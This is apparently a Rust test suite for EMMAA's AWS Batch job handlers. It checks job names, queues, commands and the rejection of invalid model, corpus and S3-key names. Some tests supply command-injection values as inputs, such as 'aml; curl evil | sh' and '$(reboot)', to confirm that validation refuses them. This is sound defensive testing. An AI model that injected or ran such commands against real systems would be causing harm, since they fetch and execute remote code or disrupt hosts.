//! The Batch handlers: one job per model, test corpus or S3 record, named and built as the handler contract says.

use super::*;

#[tokio::test]
async fn model_updates_submits_the_update_job() {
    let outcome = run("model_updates", json!({"model": "aml"}), bucket(&[])).await;
    let job_name = format!("aml_update_{STAMP}");
    assert_eq!(
        outcome.response().cloned(),
        Some(job_success(&[&format!("local-{job_name}")]))
    );
    assert_eq!(
        actions(&outcome),
        json!([submit(
            &job_name,
            "update-emmaa-models",
            "python scripts/run_model_update.py --model aml"
        )])
    );
}

#[tokio::test]
async fn model_stats_queries_and_test_update_submit_their_jobs() {
    let cases = [
        (
            "model_stats",
            "model_stats",
            "update-emmaa-model-stats",
            "python scripts/run_model_stats_from_s3.py --model aml --stats_mode model",
        ),
        (
            "model_queries",
            "queries",
            "update-emmaa-queries",
            "python scripts/answer_queries_from_s3.py --model aml",
        ),
        (
            "test_update",
            "test_update",
            "update-emmaa-tests",
            "python scripts/model_to_tests.py --model aml",
        ),
    ];
    for (guest, name, purpose, script) in cases {
        for (language, build) in support::builds(guest) {
            let outcome =
                support::run_build(&build, guest, json!({"model": "aml"}), bucket(&[]), settings(&[])).await;
            assert_eq!(outcome.status_code(), Some(200), "{guest} ({language})");
            assert_eq!(
                actions(&outcome),
                json!([submit(&format!("aml_{name}_{STAMP}"), purpose, script)]),
                "{guest} ({language})"
            );
        }
    }
}

#[tokio::test]
async fn model_tests_submits_the_test_job_for_the_corpus() {
    let outcome = run(
        "model_tests",
        json!({"model": "covid19", "tests": "covid19_curated_tests"}),
        bucket(&[]),
    )
    .await;
    assert_eq!(
        actions(&outcome),
        json!([submit(
            &format!("covid19_covid19_curated_tests_tests_{STAMP}"),
            "update-emmaa-results",
            "python scripts/run_model_tests_from_s3.py --model covid19 --tests covid19_curated_tests"
        )])
    );
}

#[tokio::test]
async fn model_tests_refuses_bad_model_and_corpus_naming_both() {
    let outcome = run(
        "model_tests",
        json!({"model": "a b", "tests": "$(reboot)"}),
        bucket(&[]),
    )
    .await;
    let error = outcome.error_message().unwrap();
    assert!(
        error.contains("model \"a b\" is not a valid model name"),
        "{error}"
    );
    assert!(
        error.contains("tests \"$(reboot)\" is not a valid test corpus name"),
        "{error}"
    );
    assert!(outcome.actions.is_empty());
    let outcome = run("model_tests", json!({"model": "aml"}), bucket(&[])).await;
    assert!(
        outcome
            .error_message()
            .unwrap()
            .starts_with("the event has no \"tests\" field")
    );
}

#[tokio::test]
async fn batch_handlers_refuse_a_bad_model_event_naming_field_and_value() {
    let builds = ["model_updates", "model_stats", "model_queries", "test_update"]
        .into_iter()
        .flat_map(|guest| {
            support::builds(guest)
                .into_iter()
                .map(move |(language, build)| (guest, language, build))
        });
    for (guest, language, build) in builds {
        let run = |event| support::run_build(&build, guest, event, bucket(&[]), settings(&[]));
        let outcome = run(json!({"model": "aml; curl evil | sh"})).await;
        assert_eq!(outcome.response(), None);
        assert_eq!(
            outcome.error_message().as_deref(),
            Some(
                "model \"aml; curl evil | sh\" is not a valid model name: it must match ^[A-Za-z0-9][A-Za-z0-9_-]*$"
            ),
            "{guest} ({language})"
        );
        assert!(outcome.actions.is_empty(), "{guest} ({language})");
        let outcome = run(json!({"model": 42})).await;
        assert_eq!(
            outcome.error_message().as_deref(),
            Some("model must be a string, got 42"),
            "{guest} ({language})"
        );
    }
}

#[tokio::test]
async fn large_models_get_the_large_queue_and_definition() {
    for guest in ["model_updates", "model_stats"] {
        for (language, build) in support::builds(guest) {
            let settings = settings(&[("EMMAA_LARGE_MODELS", "covid19, aml")]);
            let outcome =
                support::run_build(&build, guest, json!({"model": "aml"}), bucket(&[]), settings).await;
            let submitted = &actions(&outcome)[0];
            assert_eq!(
                submitted["job_queue"], "emmaa-after-update",
                "{guest} ({language})"
            );
            assert_eq!(
                submitted["job_definition"], "emmaa_testing_jobs_def",
                "{guest} ({language})"
            );
        }
    }
}

#[tokio::test]
async fn an_empty_branch_drops_the_branch_option() {
    let cases = [
        (
            "model_queries",
            "update-emmaa-queries",
            "answer_queries_from_s3.py --model aml",
        ),
        (
            "model_stats",
            "update-emmaa-model-stats",
            "run_model_stats_from_s3.py --model aml --stats_mode model",
        ),
    ];
    for (guest, purpose, script) in cases {
        for (language, build) in support::builds(guest) {
            let settings = settings(&[("EMMAA_BRANCH", ""), ("EMMAA_PROJECT", "emmaa")]);
            let outcome =
                support::run_build(&build, guest, json!({"model": "aml"}), bucket(&[]), settings).await;
            assert_eq!(
                actions(&outcome)[0]["command"],
                json!([
                    "python",
                    "-m",
                    "indra.util.aws",
                    "run_in_batch",
                    "--project",
                    "emmaa",
                    "--purpose",
                    purpose,
                    format!("bash scripts/git_and_run.sh python scripts/{script}")
                ]),
                "{guest} ({language})"
            );
        }
    }
}

#[tokio::test]
async fn a_job_name_longer_than_batch_allows_is_refused() {
    // `{model}_update_{STAMP}` adds 23 characters to the model name.
    let longest = "m".repeat(105);
    let outcome = run("model_updates", json!({ "model": longest }), bucket(&[])).await;
    assert_eq!(actions(&outcome)[0]["job_name"].as_str().map(str::len), Some(128));
    let too_long = "m".repeat(106);
    let outcome = run("model_updates", json!({ "model": too_long }), bucket(&[])).await;
    let error = outcome.error_message().unwrap();
    assert!(
        error.contains("is 129 characters long; AWS Batch allows at most 128"),
        "{error}"
    );
    assert!(outcome.actions.is_empty());
}

#[tokio::test]
async fn a_refused_submission_is_reported_with_the_queue_and_aws_reason() {
    let effects = bucket(&[]).failing_queue(
        "emmaa-models-update-test",
        AwsError::new(
            ErrorKind::Rejected,
            "ClientException",
            "Job Queue emmaa-models-update-test does not exist",
        ),
    );
    let outcome = run("model_updates", json!({"model": "aml"}), effects).await;
    assert_eq!(
        outcome.error_message().unwrap(),
        format!(
            "submitting job \"aml_update_{STAMP}\" to queue \"emmaa-models-update-test\" failed: \
             ClientException: Job Queue emmaa-models-update-test does not exist"
        )
    );
}

#[tokio::test]
async fn model_manager_update_submits_one_job_per_record() {
    let event = s3_event(&[
        "models/aml/model_2020-02-04-12-00-00.pkl",
        "models/brca/model_2020-02-04-12-00-01.pkl",
    ]);
    let outcome = run("model_manager_update", event, bucket(&[])).await;
    let ids = [
        format!("local-aml_mm_update_{STAMP}"),
        format!("local-brca_mm_update_{STAMP}"),
    ];
    assert_eq!(
        outcome.response().cloned(),
        Some(job_success(&[&ids[0], &ids[1]]))
    );
    assert_eq!(
        actions(&outcome),
        json!([
            submit(
                &format!("aml_mm_update_{STAMP}"),
                "update-emmaa-model-manager",
                "python scripts/update_model_manager.py --model aml"
            ),
            submit(
                &format!("brca_mm_update_{STAMP}"),
                "update-emmaa-model-manager",
                "python scripts/update_model_manager.py --model brca"
            ),
        ])
    );
}

#[tokio::test]
async fn model_manager_update_keeps_the_good_records_of_an_event_with_bad_ones() {
    let event = json!({"Records": [
        {"s3": {"object": {"key": "models/a%3Bb/model_2020-02-04-12-00-00.pkl"}}},
        {"s3": {"object": {"key": "models/aml/model_2020-02-04-12-00-00.pkl"}}},
        {"s3": {"bucket": {"name": "emmaa"}}},
        {"s3": {"object": {"key": "models/aml/config.json"}}},
        {"s3": {"object": {"key": "models/my+model/model.pkl"}}},
    ]});
    let outcome = run("model_manager_update", event, bucket(&[])).await;
    assert_eq!(outcome.status_code(), Some(207));
    assert_eq!(outcome.actions.len(), 1);
    assert_eq!(actions(&outcome)[0]["job_name"], format!("aml_mm_update_{STAMP}"));
    let reasons: Vec<String> = refused(&outcome).into_iter().map(|(_, reason)| reason).collect();
    assert_eq!(reasons.len(), 4);
    assert!(
        reasons[0].starts_with(
            "the model in Records[0].s3.object.key \"models/a;b/model_2020-02-04-12-00-00.pkl\" \"a;b\""
        ),
        "{}",
        reasons[0]
    );
    assert_eq!(reasons[1], "Records[2].s3.object.key is missing");
    assert!(
        reasons[2].contains("does not have the layout models/{model}/{file}.pkl"),
        "{}",
        reasons[2]
    );
    assert!(
        reasons[3].contains("\"my model\" is not a valid model name"),
        "{}",
        reasons[3]
    );
    assert_eq!(
        outcome.response().unwrap()["job_ids"],
        json!([format!("local-aml_mm_update_{STAMP}")])
    );
}

#[tokio::test]
async fn model_manager_update_decodes_keys_before_validating() {
    let event = s3_event(&["models/marm%5Fmodel/model_2020-01-01-00-00-00.pkl"]);
    let outcome = run("model_manager_update", event, bucket(&[])).await;
    assert_eq!(
        actions(&outcome)[0]["job_name"],
        format!("marm_model_mm_update_{STAMP}")
    );
}

#[tokio::test]
async fn s3_handlers_fail_on_an_event_without_records() {
    for guest in ["model_manager_update", "after_update", "test_stats"] {
        for (language, outcome) in
            support::run_each_build(guest, json!({"model": "aml"}), || bucket(&[])).await
        {
            assert!(
                outcome
                    .error_message()
                    .unwrap()
                    .starts_with("the event has no \"Records\" list"),
                "{guest} ({language})"
            );
            assert!(outcome.actions.is_empty(), "{guest} ({language})");
        }
    }
}

#[tokio::test]
async fn test_stats_reads_the_corpus_from_the_results_key() {
    let event = s3_event(&[
        "results/covid19/results_covid19_curated_tests_2020-02-04-14-00-00.json",
        "results/aml/results_2020-02-04-14-00-00.json",
    ]);
    let outcome = run("test_stats", event, bucket(&[])).await;
    assert_eq!(outcome.status_code(), Some(200));
    assert_eq!(
        actions(&outcome),
        json!([
            submit(
                &format!("covid19_covid19_curated_tests_stats_{STAMP}"),
                "update-emmaa-test-stats",
                "python scripts/run_model_stats_from_s3.py --model covid19 --stats_mode tests --tests covid19_curated_tests"
            ),
            submit(
                &format!("aml_large_corpus_tests_stats_{STAMP}"),
                "update-emmaa-test-stats",
                "python scripts/run_model_stats_from_s3.py --model aml --stats_mode tests --tests large_corpus_tests"
            ),
        ])
    );
}

#[tokio::test]
async fn test_stats_refuses_a_corpus_that_is_not_a_valid_name() {
    let event = s3_event(&["results/aml/results_x%26y_2020-02-04-14-00-00.json"]);
    let outcome = run("test_stats", event, bucket(&[])).await;
    let error = outcome.error_message().unwrap();
    assert!(
        error.contains("\"x&y\" is not a valid test corpus name"),
        "{error}"
    );
    assert!(outcome.actions.is_empty());
}
